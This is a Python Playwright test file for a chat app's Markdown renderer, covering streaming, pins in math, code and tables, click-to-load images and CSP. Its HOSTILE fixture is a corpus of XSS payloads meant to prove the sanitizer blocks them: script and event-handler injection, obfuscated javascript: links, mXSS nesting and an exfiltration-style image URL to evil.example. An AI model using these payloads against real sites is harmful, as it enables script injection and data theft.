"""Rendered Markdown in the page: a streamed answer with a table, code and math grows block by block; a hostile
corpus (raw HTML, `javascript:` links in every spelling, entity tricks, nested brackets, images, autolinks, a broken
fence) runs nothing and fetches nothing; a pin made across bold text anchors the right source range, one made
inside a formula anchors the whole formula and highlights its `<math>`, pins in highlighted code and across table
cells mark the right text; an image loads only when its placeholder is clicked; no CSP violation; screenshots
(1440 px light and dark, 390 px) with two overlapping pins in test-artifacts/md-*.png.

Answers with given Markdown come from the fake upstream's `text=<urlsafe base64>` directive.
"""

from __future__ import annotations

import asyncio
import base64
import json
import struct
import zlib
from urllib.parse import urlsplit

import pytest

from tests.browser.conftest import VIEWPORT
from tests.browser.helpers import (
    ARTIFACTS,
    PINS,
    answer_text,
    boot,
    new_thread,
    panel,
    send,
    wait_answer,
)
from tests.server_process import free_port

pytestmark = pytest.mark.asyncio(loop_scope="session")

CSP_RECORDER = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
                          (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
"""

RICH = """# Results

The run was **fast** and the `cache` helped: $E = mc^2$ holds.

| Model | Tokens | Time |
|:------|-------:|:----:|
| small | 1200 | 3 s |
| large | 4800 | 9 s |

```python
def total(items):
    # add them up
    return sum(x * 2 for x in items)
```

$$\\int_0^1 x^2 \\, dx = \\frac{1}{3}$$

- [x] measured
- [ ] written up

Done.
"""

HOSTILE = """<script>window.__pwned = 1</script>
<img src=x onerror="window.__pwned = 2"><iframe src="https://evil.example/"></iframe>

Links: [one](javascript:window.__pwned=3) [two](JaVaScRiPt:alert(1)) [three](jav&#x09;ascript:alert(1))
[four](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [five](  javascript:alert(1))
<a href="https://evil.example/" onclick="window.__pwned=4">raw</a> &lt;b onmouseover=alert(1)&gt;
[[nested [brackets]]](https://example.com/ok) <https://example.com/auto>

![leak](https://evil.example/collect?q=secret) ![x](javascript:alert(1))

More: [six](jav&#9;ascript:alert(1)) [seven](java
script:alert(1)) [eight](&#106;avascript:alert(1)) [nine](javascript&colon;alert(1)) [ten](vbscript:msgbox(1))
[eleven](//evil.example/x) [twelve](/relative) [thirteen](file:///etc/passwd) [fourteen](<javascript:alert(1)>)
[fifteen](%6Aavascript:alert(1)) [sixteen](https://example.com/t "title\" onclick=alert(1)")
<javascript:alert(1)> <JAVASCRIPT:alert(1)> <data:text/html,<script>alert(1)</script>>
[seventeen][ref] [[nested [deep [brackets]]]](javascript:alert(1)) www.example.com/www

[ref]: javascript:window.__pwned=7

Entities: &#x3C;script&#x3E;window.__pwned=8&#x3C;/script&#x3E; &amp;lt;b&amp;gt; &NotAnEntity; &#x6A;avascript:x

![p](//evil.example/p.png) ![d](data:image/svg+xml,<svg/onload=alert(1)>)
[![inner](https://evil.example/i.png)](https://example.com/wrapped) ![r][img]

[img]: https://evil.example/ref.png

Math: $\\href{javascript:alert(1)}{x}$ and $\\text{<img src=x onerror=alert(1)>}$

<details open ontoggle="window.__pwned=9"><summary>s</summary></details><form action="https://evil.example/"></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=10"></style></mtext></math>

<svg onload="window.__pwned=5"><style>body{display:none}</style>

```html
<script>window.__pwned = 6</script>
"""

HOSTILE_VISIBLE = (
    "<script>window.__pwned = 1</script>", '<img src=x onerror="window.__pwned = 2">', "<b onmouseover=alert(1)>",
    "[one](javascript:window.__pwned=3)", "three", "[four](data:text/html",
    '<a href="https://evil.example/" onclick="window.__pwned=4">raw</a>', "nested [brackets]",
    "![x](javascript:alert(1))", '<svg onload="window.__pwned=5">', "<script>window.__pwned = 6</script>",
    "six [seven](java\nscript:alert(1)) [eight](javascript:alert(1)) [nine](javascript:alert(1))",
    "[ten](vbscript:msgbox(1))", "eleven twelve [thirteen](file:///etc/passwd) [fourteen](<javascript:alert(1)>)",
    "<javascript:alert(1)> <JAVASCRIPT:alert(1)> <data:text/html,<script>alert(1)</script>>",
    "[seventeen][ref] [[nested [deep [brackets]]]](javascript:alert(1))", "[ref]: javascript:window.__pwned=7",
    "Entities: <script>window.__pwned=8</script> &lt;b&gt; &NotAnEntity; javascript:x",
    "[image: p] ![d](data:image/svg+xml,<svg/onload=alert(1)>)",
    '<details open ontoggle="window.__pwned=9"><summary>s</summary></details>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=10"></style></mtext></math>',
)
HOSTILE_HREFS = {"https://example.com/ok", "https://example.com/auto", "https://example.com/t",
                 "http://www.example.com/www", "https://example.com/wrapped"}


def reply(text: str, chunk: int = 4, delay_ms: int = 0) -> str:
    encoded = base64.urlsafe_b64encode(text.encode()).decode()
    return f"[[text={encoded} chunk={chunk} delay_ms={delay_ms}]]"


def body(thread_id: int, index: int = -1) -> str:
    """JS expression: the .msg-body of an answer of the thread."""
    return (f"(() => {{ const all = document.querySelectorAll(\"section.panel[data-thread-id='{thread_id}'] "
            f".msg[data-role=assistant] .msg-body\"); return all[{index} < 0 ? all.length + {index} : {index}]; }})()")


async def new_page(browser, **options):
    context = await browser.new_context(**{"viewport": VIEWPORT, **options})
    page = await context.new_page()
    page.problems = []
    page.on("pageerror", lambda exc: page.problems.append(str(exc)))
    await page.add_init_script(CSP_RECORDER)
    return page


async def test_streamed_markdown_renders_incrementally(app_page):
    page = app_page
    console = []
    page.on("console", lambda m: console.append(m.text) if m.type in ("error", "warning") else None)
    tid = await new_thread(page)
    # Sample the answer at every animation frame, in the page (round trips from here are too slow to see steps).
    await page.evaluate(f"""() => {{
        window.__md = [];
        const tick = () => {{
            const b = {body(tid)};
            if (b) {{
                const first = b.querySelector('h1');
                if (first && !first.__seen) first.__seen = true;
                window.__md.push({{status: b.parentElement.dataset.status, text: b.textContent,
                                   tables: b.querySelectorAll('table').length,
                                   code: b.querySelectorAll('.code-block').length,
                                   math: b.querySelectorAll('math').length}});
                if (b.parentElement.dataset.status !== 'streaming') return;
            }}
            requestAnimationFrame(tick);
        }};
        requestAnimationFrame(tick);
    }}""")
    await send(page, tid, "Report " + reply(RICH, chunk=3, delay_ms=30))
    await wait_answer(page, tid, "complete")
    samples = await page.evaluate("() => window.__md")
    streaming = [s for s in samples if s["status"] == "streaming"]
    assert len({len(s["text"]) for s in streaming}) >= 5, "the answer did not grow in steps"
    summary = [(len(s["text"]), s["tables"], s["code"], s["math"]) for s in streaming]
    assert any(s["tables"] and s["math"] < 2 for s in streaming), f"no table while streaming: {summary} {console}"
    assert any(s["code"] for s in streaming), "no code block while streaming"
    assert all("```" not in s["text"] for s in samples), "a fence showed as backticks"
    assert all("**" not in s["text"] for s in samples), "emphasis showed as asterisks"
    final = await page.evaluate(f"""() => {{
        const b = {body(tid)};
        const h1 = b.querySelector('h1');
        return {{md: b.classList.contains('md'), h1kept: !!(h1 && h1.__seen), strong: b.querySelector('strong').textContent,
                 cells: [...b.querySelectorAll('td')].map(td => td.textContent),
                 right: b.querySelectorAll('td.align-right').length,
                 lang: b.querySelector('.code-lang').textContent,
                 code: b.querySelector('pre').textContent, spans: b.querySelectorAll('pre span.k, pre span.kn').length,
                 math: [...b.querySelectorAll('math')].map(m => m.namespaceURI),
                 display: b.querySelectorAll('math[display=block]').length,
                 boxes: b.querySelectorAll('input[type=checkbox][disabled]').length}};
    }}""")
    assert final["md"] and final["h1kept"], "the heading was rebuilt while the answer went on"
    assert final["strong"] == "fast"
    assert final["cells"] == ["small", "1200", "3 s", "large", "4800", "9 s"] and final["right"] == 2
    assert final["lang"] == "python" and final["spans"] >= 2
    assert final["code"] == "def total(items):\n    # add them up\n    return sum(x * 2 for x in items)\n"
    assert len(final["math"]) == 2 and set(final["math"]) == {"http://www.w3.org/1998/Math/MathML"}
    assert final["display"] == 1 and final["boxes"] == 2
    await page.screenshot(path=str(ARTIFACTS / "markdown-light.png"), full_page=False)
    assert page.problems == []


async def test_hostile_markdown_runs_nothing_and_fetches_nothing(browser, app_server):
    page = await new_page(browser)
    requests = []
    dialogs = []
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), asyncio.ensure_future(d.dismiss())))
    try:
        await boot(page, app_server)
        tid = await new_thread(page)
        await send(page, tid, "Hostile " + reply(HOSTILE, chunk=5))
        await wait_answer(page, tid, "complete")
        await page.wait_for_timeout(300)
        shown = await page.evaluate(f"""() => {{
            const b = {body(tid)};
            const all = [...document.querySelectorAll('.messages *')];
            const banned = ['SCRIPT', 'IMG', 'IFRAME', 'STYLE', 'svg', 'DETAILS', 'FORM', 'META', 'LINK', 'BASE',
                            'OBJECT', 'EMBED', 'mglyph', 'style', 'MTEXT'];
            return {{text: b.textContent,
                     bad: all.filter(e => banned.includes(e.tagName)).map(e => e.tagName),
                     hrefHolders: [...document.querySelectorAll('.messages [href]')].map(e => e.tagName),
                     math: [...b.querySelectorAll('math')].map(m => m.textContent),
                     handlers: all.flatMap(e => [...e.attributes].map(a => a.name)).filter(n => n.startsWith('on')),
                     hrefs: [...b.querySelectorAll('a')].map(a => [a.getAttribute('href'), a.rel, a.target]),
                     unsafe: b.querySelectorAll('.unsafe-link').length,
                     placeholder: [...b.querySelectorAll('button.img-placeholder')].map(e => e.textContent),
                     pwned: window.__pwned === undefined ? null : window.__pwned}};
        }}""")
        assert shown["pwned"] is None and dialogs == []
        assert shown["bad"] == [] and shown["handlers"] == []
        assert set(shown["hrefHolders"]) == {"A"}  # no MathML `href`, no <base>/<link>
        for href, rel, target in shown["hrefs"]:
            assert href.startswith(("https://", "http://")) and rel == "noopener noreferrer" and target == "_blank"
        assert {h[0] for h in shown["hrefs"]} == HOSTILE_HREFS
        assert shown["unsafe"] >= 5  # links markdown-it accepts but we do not: their text, no href
        assert len(shown["placeholder"]) == 3 and all("evil.example" in p for p in shown["placeholder"])
        assert shown["math"] == ["x", "<img\xa0src=x\xa0onerror=alert(1)>"]
        text = shown["text"]
        for visible in HOSTILE_VISIBLE:
            assert visible in text, visible
        assert "evil.example" not in "".join(u for u in requests if not u.startswith(app_server.url))
        assert all(u.startswith(app_server.url) or u.startswith("data:") for u in requests), \
            [u for u in requests if not u.startswith(app_server.url)]
        assert await page.evaluate("() => window.__csp") == []
        assert page.problems == []
    finally:
        await page.context.close()


async def test_pin_across_bold_anchors_the_source_range(browser, app_server):
    source = "Alpha beta **gamma delta** epsilon zeta.\n\nSecond *paragraph* here.\n"
    page = await new_page(browser)
    try:
        await boot(page, app_server)
        tid = await new_thread(page)
        await send(page, tid, "Bold " + reply(source))
        await wait_answer(page, tid, "complete")
        # Select from "beta" (plain text) to the end of "delta" (inside <strong>), as a drag would.
        await page.evaluate(f"""() => {{
            const b = {body(tid)};
            const p = b.querySelector('p');
            const first = p.firstChild, inner = p.querySelector('strong').firstChild;
            const range = document.createRange();
            range.setStart(first, first.data.indexOf('beta'));
            range.setEnd(inner, inner.data.indexOf('delta') + 5);
            getSelection().removeAllRanges();
            getSelection().addRange(range);
            const r = range.getBoundingClientRect();
            b.dispatchEvent(new MouseEvent('mouseup', {{bubbles: true, clientX: r.right, clientY: r.bottom}}));
        }}""")
        await page.locator("[data-testid=pin]").click()
        await page.wait_for_function("() => document.querySelectorAll('section.panel-pin').length === 1")
        pin_id = int(await page.locator(PINS).get_attribute("data-thread-id"))
        detail = app_server.get(f"/api/threads/{pin_id}")
        anchor = detail.get("thread", detail)["anchor"]
        assert (anchor["start"], anchor["end"]) == (source.index("beta"), source.index("delta") + len("delta"))
        marks = panel(page, tid).locator(f"mark.pin-anchor[data-pin-id='{pin_id}']")
        await marks.first.wait_for()
        assert "".join(await marks.all_inner_texts()) == "beta gamma delta"
        assert await panel(page, tid).locator("strong mark.pin-anchor").count() == 1
        # its title and quote read as what was selected, not as the source's "beta **gamma delta"
        pin_panel = panel(page, pin_id)
        await page.wait_for_function(
            "(id) => document.querySelector(`section.panel[data-thread-id='${id}'] .pin-quote`).textContent"
            " === 'beta gamma delta'", arg=pin_id)
        assert "beta gamma delta" in await pin_panel.locator(".panel-title").inner_text()
        assert not any("**" in text for text in await page.locator("[data-testid=tree-node]").all_inner_texts())
        assert await answer_text(page, tid) == "Alpha beta gamma delta epsilon zeta.Second paragraph here."
        await page.screenshot(path=str(ARTIFACTS / "markdown-pin.png"))
        assert await page.evaluate("() => window.__csp") == []
        assert page.problems == []
    finally:
        await page.context.close()


# --- pins in math, code and tables; screenshots with overlapping pins ---------------------------------------------

SHOWCASE = """## Benchmark notes

The run was **very fast** and the energy $E = mc^2$ held throughout.

> Measured on a *quiet* machine; the numbers are medians of five runs.

| Model | Prompt tokens | Completion tokens | Wall time | Cost (USD) | Notes |
|:------|-------------:|------------------:|:---------:|-----------:|:------|
| small | 1200 | 380 | 3.1 s | 0.0004 | fine for drafts and short summaries |
| large | 4800 | 1210 | 9.4 s | 0.0121 | better at long-range reasoning |

```python
def total(items, factor=2):
    # add them up, scaled; a long line follows, to see it scroll inside its own box and not the page
    return sum(x * factor for x in items if x is not None and x >= 0 and isinstance(x, (int, float)))
```

$$\\int_0^1 x^2 \\, dx = \\frac{1}{3}$$

- [x] measured
- [ ] written up
- [ ] reviewed
"""


async def select_span(page, tid: int, start: tuple, end: tuple) -> None:
    """Select in the thread's last answer as a drag would, from `start` to `end`, each `(css, needle, delta)`: in the
    first element matching `css` inside the answer, the first Text node containing `needle`, at its index + delta."""
    ok = await page.evaluate(f"""([start, end]) => {{
        const b = {body(tid)};
        const point = ([css, needle, delta]) => {{
            const root = css ? b.querySelector(css) : b;
            if (!root) return null;
            const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
            for (let n = walker.nextNode(); n; n = walker.nextNode()) {{
                const at = n.data.indexOf(needle);
                if (at >= 0) return [n, at + delta];
            }}
            return null;
        }};
        const s = point(start), e = point(end);
        if (!s || !e) return false;
        const range = document.createRange();
        range.setStart(s[0], s[1]);
        range.setEnd(e[0], e[1]);
        getSelection().removeAllRanges();
        getSelection().addRange(range);
        const r = range.getBoundingClientRect();
        b.dispatchEvent(new MouseEvent('mouseup', {{bubbles: true, clientX: r.right, clientY: r.bottom}}));
        return true;
    }}""", [list(start), list(end)])
    assert ok, (start, end)


async def pin_span(page, app_server, tid: int, start: tuple, end: tuple) -> tuple[int, int, int]:
    """Select from `start` to `end` (see select_span), press the pin button; (pin id, anchor start, anchor end)."""
    before = set(await page.eval_on_selector_all(PINS, "els => els.map(e => e.dataset.threadId)"))
    await select_span(page, tid, start, end)
    await page.locator("[data-testid=pin]").click()
    await page.wait_for_function("(n) => document.querySelectorAll('section.panel-pin').length > n", arg=len(before))
    (new,) = set(await page.eval_on_selector_all(PINS, "els => els.map(e => e.dataset.threadId)")) - before
    detail = app_server.get(f"/api/threads/{new}")
    anchor = detail.get("thread", detail)["anchor"]
    return int(new), anchor["start"], anchor["end"]


async def marked(page, tid: int, pin_id: int) -> dict:
    """What the answer shows for a pin: its marks' texts, whether they sit in math / code spans / cells."""
    return await page.evaluate(f"""(pin) => {{
        const marks = [...{body(tid)}.querySelectorAll(`mark.pin-anchor[data-pin-id='${{pin}}']`)];
        return {{texts: marks.map(m => m.textContent),
                 math: marks.filter(m => m.classList.contains('pin-math') && m.firstElementChild
                                         && m.firstElementChild.localName === 'math').length,
                 inSpans: marks.filter(m => m.parentElement.closest('pre code span')).length,
                 cells: marks.map(m => m.closest('td, th') ? m.closest('td, th').cellIndex : null),
                 overlap: marks.filter(m => m.classList.contains('pin-overlap')).length}};
    }}""", pin_id)


async def test_pins_in_math_code_and_table_cells(app_page, app_server):
    page = app_page
    tid = await new_thread(page)
    await send(page, tid, "Showcase " + reply(SHOWCASE, chunk=60))
    await wait_answer(page, tid, "complete")
    src = SHOWCASE
    # half of an inline formula (from its `m` to its `c`): the pin anchors the whole `$E = mc^2$`
    pin, s, e = await pin_span(page, app_server, tid, ("span.math-inline math", "m", 0), ("span.math-inline math", "c", 1))
    assert src[s:e] == "$E = mc^2$"
    got = await marked(page, tid, pin)
    assert got["math"] == 1 and got["texts"] == ["E=mc2"], got
    # the formula is a way into its pin, as text marks are
    assert await page.evaluate(f"""() => !!{body(tid)}.querySelector('span.math-inline mi').closest(
        "mark.pin-anchor[data-pin-id='{pin}']")""")
    # from plain text into the formula: up to the formula's end
    pin2, s, e = await pin_span(page, app_server, tid, ("p", "held", 0), ("div.math-block math", "x", 1))
    assert src[s:e].startswith("held throughout.") and src[s:e].endswith("$$\\int_0^1 x^2 \\, dx = \\frac{1}{3}$$")
    assert (await marked(page, tid, pin2))["math"] == 1
    # across Pygments token spans in a code block
    pin3, s, e = await pin_span(page, app_server, tid, ("pre", "total", 0), ("pre", "factor", 6))
    assert src[s:e] == "total(items, factor"
    got = await marked(page, tid, pin3)
    assert "".join(got["texts"]) == "total(items, factor" and got["inSpans"] >= 2, got
    # across table cells: each cell marks its own text, the `|` between them is no text
    pin4, s, e = await pin_span(page, app_server, tid, ("tbody", "small", 2), ("tbody", "380", 2))
    assert src[s:e] == "all | 1200 | 38"
    got = await marked(page, tid, pin4)
    assert got["texts"] == ["all", "1200", "38"] and got["cells"] == [0, 1, 2], got
    assert page.problems == []


def _png(width: int = 4, height: int = 3) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\x00" + b"\xd0\x30\x30" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


async def test_image_placeholder_loads_only_on_click(browser, app_server):
    image = f"{app_server.url}/md-test-chart.png"  # same origin (CSP img-src 'self'), answered by the route below
    blocked = f"http://127.0.0.1:{free_port()}/elsewhere.png"  # plain http on another origin: CSP blocks it
    page = await new_page(browser)
    requests, finished, failed = [], [], {}
    page.on("request", lambda r: requests.append(r.url))
    page.on("requestfinished", lambda r: finished.append(r.url))
    page.on("requestfailed", lambda r: failed.setdefault(r.url, r.failure))
    await page.route(image, lambda route: route.fulfill(status=200, content_type="image/png", body=_png()))
    try:
        await boot(page, app_server)
        tid = await new_thread(page)
        await send(page, tid, "Chart " + reply(f"The chart: ![sales chart]({image})\n\nAnd ![other one]({blocked})\n"))
        await wait_answer(page, tid, "complete")
        await page.wait_for_timeout(300)
        assert image not in requests and blocked not in requests  # nothing fetched before the click
        placeholder = panel(page, tid).locator("button.img-placeholder").first
        assert await placeholder.inner_text() == "Image from 127.0.0.1 — click to load"
        await placeholder.click()
        img = panel(page, tid).locator("img.md-image").first
        await img.wait_for()
        await page.wait_for_function(
            "(src) => { const i = document.querySelector(`img.md-image[src='${src}']`);"
            " return i && i.complete && i.naturalWidth > 0; }", arg=image)
        assert requests.count(image) == 1
        attrs = await img.evaluate("i => [i.getAttribute('src'), i.alt, i.getAttribute('referrerpolicy'),"
                                   " i.referrerPolicy, i.naturalWidth, i.naturalHeight]")
        assert attrs == [image, "sales chart", "no-referrer", "no-referrer", 4, 3]
        assert await panel(page, tid).locator("button.img-placeholder").count() == 1
        # the other origin: the click asks, CSP refuses, nothing leaves the page
        await panel(page, tid).locator("button.img-placeholder").click()
        await page.wait_for_function("() => window.__csp.length > 0")
        csp = await page.evaluate("() => window.__csp")
        assert csp == [f"img-src {blocked}"], csp
        # the refused image is replaced by a note naming its host (not an empty frame)
        note = panel(page, tid).locator(".img-failed")
        await note.wait_for()
        assert await note.inner_text() == f"Image from {urlsplit(blocked).hostname} could not be loaded"
        assert await panel(page, tid).locator("img.md-image").count() == 1
        # Chromium reports the attempt, refused before the network: it never finished, it failed on the CSP
        assert blocked not in finished and failed.get(blocked) == "csp", failed
        assert requests.count(image) == 1 and finished.count(image) == 1
        assert page.problems == []
    finally:
        await page.context.close()


async def test_screenshots_with_overlapping_pins(browser, app_server):
    """The showcase answer, streamed, with two overlapping pins (one across bold text, one from bold into math):
    1440 px light, 1440 px dark, 390 px; wide tables and code scroll inside their box, never the page."""
    page = await new_page(browser)
    try:
        await boot(page, app_server)
        tid = await new_thread(page)
        await send(page, tid, "Showcase " + reply(SHOWCASE, chunk=8, delay_ms=5))
        await wait_answer(page, tid, "complete")
        bold, s1, e1 = await pin_span(page, app_server, tid, ("p", "run", 0), ("strong", "very", 4))
        assert SHOWCASE[s1:e1] == "run was **very"
        math, s2, e2 = await pin_span(page, app_server, tid, ("strong", "very", 2), ("span.math-inline math", "m", 0))
        assert SHOWCASE[s2:e2] == "ry fast** and the energy $E = mc^2$"
        one, two = await marked(page, tid, bold), await marked(page, tid, math)
        # "ry" is under both: marked once, darker (pin-overlap), and it opens the shorter pin
        assert one["texts"] == ["run was ", "ve", "ry"] and one["overlap"] == 1, one
        assert two["texts"][0] == " fast" and two["math"] == 1 and two["overlap"] == 0, two
        await page.evaluate("() => getSelection().removeAllRanges()")
        await panel(page, tid).locator(".msg[data-role=assistant]").last.scroll_into_view_if_needed()
        shots = {}
        for name, scheme, viewport in (("light", "light", VIEWPORT), ("dark", "dark", VIEWPORT),
                                       ("phone", "light", {"width": 390, "height": 844})):
            await page.emulate_media(color_scheme=scheme)
            await page.set_viewport_size(viewport)
            await page.wait_for_timeout(150)
            await page.screenshot(path=str(ARTIFACTS / f"md-{name}.png"))
            await page.evaluate(f"() => {body(tid)}.querySelector('ul').scrollIntoView({{block: 'end'}})")
            await page.screenshot(path=str(ARTIFACTS / f"md-{name}-end.png"))
            await page.evaluate(f"() => {body(tid)}.scrollIntoView({{block: 'start'}})")
            shots[name] = await page.evaluate(f"""() => {{
                const b = {body(tid)};
                const box = (e) => [e.scrollWidth, e.clientWidth];
                return {{page: [document.documentElement.scrollWidth, window.innerWidth],
                         table: box(b.querySelector('table')), pre: box(b.querySelector('pre')),
                         body: box(b), math: b.querySelector('div.math-block math').getBoundingClientRect().height,
                         text: parseFloat(getComputedStyle(b).fontSize)}};
            }}""")
        phone = shots["phone"]
        assert phone["page"][0] <= phone["page"][1] + 1, f"the page scrolls sideways at 390 px: {phone}"
        assert phone["table"][0] > phone["table"][1] and phone["pre"][0] > phone["pre"][1], phone  # own scrollbars
        assert phone["body"][0] <= phone["body"][1] + 1, phone
        for name, got in shots.items():
            assert got["text"] * 1.5 < got["math"] < got["text"] * 6, (name, got)  # display math: readable size
        assert await page.evaluate("() => window.__csp") == []
        assert page.problems == []
        print(json.dumps(shots))
    finally:
        await page.context.close()


# Recorded when the root element's data-renderer changes: whether the composer was usable, and what the answer
# showed at that moment (the renderer is imported only after the page is usable: web/boot.js installRenderer).
RENDERER_WATCH = """
window.__renderer = [];
window.__firstAnswer = null;
new MutationObserver(() => {
    const answer = document.querySelector('.msg[data-role=assistant] .msg-body');
    if (answer && answer.textContent && !window.__firstAnswer) {
        window.__firstAnswer = {text: answer.textContent, strong: answer.querySelectorAll('strong').length,
                                renderer: document.documentElement.dataset.renderer || null};
    }
    const state = document.documentElement.dataset.renderer;
    if (!state || window.__renderer.some(r => r.state === state)) return;
    const box = document.querySelector('[data-testid=composer]');
    window.__renderer.push({state, composer: !!box && !box.disabled});
}).observe(document, {attributes: true, childList: true, characterData: true, subtree: true});
"""


async def test_the_page_is_usable_before_the_renderer_and_answers_then_render(browser, app_server):
    page = await new_page(browser)
    try:
        await boot(page, app_server)
        tid = await new_thread(page)
        await send(page, tid, "Bold " + reply("Some **bold** words.", chunk=5))
        await wait_answer(page, tid, "complete")
        await page.add_init_script(RENDERER_WATCH)
        await page.reload()
        await page.wait_for_selector("html[data-renderer=warm]", state="attached", timeout=60_000)
        states = await page.evaluate("() => window.__renderer")
        assert [s["state"] for s in states] == ["ready", "warm"], states
        assert states[0]["composer"], "the composer was not usable before the Markdown renderer loaded"
        # an answer shown before the renderer is its source as plain text, then Markdown (which comes first, the
        # thread's messages or the renderer, is a race: on a loaded machine the renderer may win)
        first = await page.evaluate("() => window.__firstAnswer")
        if first["renderer"] is None:
            assert first["text"] == "Some **bold** words." and first["strong"] == 0, first
        else:
            assert first["text"] == "Some bold words." and first["strong"] == 1, first
        shown = await page.evaluate(f"() => {{ const b = {body(tid)}; return [b.textContent, "
                                    f"b.querySelectorAll('strong').length, b.classList.contains('md')]; }}")
        assert shown == ["Some bold words.", 1, True]
        assert page.problems == []
    finally:
        await page.context.close()
